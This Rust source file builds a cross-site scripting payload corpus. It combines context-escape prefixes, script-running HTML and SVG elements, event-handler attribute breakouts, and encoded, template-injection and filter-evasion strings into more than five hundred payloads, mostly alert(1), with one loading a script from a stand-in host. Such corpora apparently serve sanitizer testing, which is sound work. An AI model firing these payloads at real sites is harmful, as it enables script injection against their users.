//! Texts with which people attack pages: every way that public lists know of making markup or scripts of them.

/// Ways out of where a text may stand.
const EXITS: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\"/>",
    "</textarea>",
    "</title>",
    "</script>",
    "</select></option>",
    "-->",
    "]]>",
    "</style>",
    "</a></p></li>",
];

/// Elements that do something by themselves.
const ACTORS: [&str; 30] = [
    "<script>alert(1)</script>",
    "<script src=//x.invalid/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"//",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<form><button formaction=javascript:alert(1)>x",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
];

/// Handlers for a text that ends up inside a tag.
const HANDLERS: [&str; 14] = [
    "onfocus",
    "onmouseover",
    "onclick",
    "onload",
    "onerror",
    "onanimationstart",
    "ontransitionend",
    "onpointerenter",
    "onbeforeinput",
    "onblur",
    "onkeydown",
    "onscroll",
    "onwheel",
    "ontoggle",
];

/// Quotes and blanks with which a text may leave an attribute.
const BREAKS: [&str; 9] = ["\" ", "' ", " ", "\"\t", "\"\n", "\"/", "`", "\\\" ", "&quot; "];

/// Texts that are no markup but may become it, or run in a template, an address or a style.
const OTHERS: [&str; 30] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//x.invalid",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{{7*7}}",
    "{% raw %}",
    "[[alert(1)]]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "\u{2028}alert(1)\u{2029}",
    "\u{feff}<img src=x onerror=alert(1)>",
    "<\u{0}script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
];

/// All of them: more than five hundred.
pub fn payloads() -> Vec<String> {
    let marked_up = EXITS.iter().flat_map(|exit| ACTORS.iter().map(move |actor| format!("{exit}{actor}")));
    let handled = HANDLERS.iter().flat_map(|handler| {
        BREAKS.iter().map(move |way_out| format!("x{way_out}{handler}=alert(1) autofocus tabindex=1 x="))
    });
    marked_up.chain(handled).chain(OTHERS.iter().map(ToString::to_string)).collect()
}
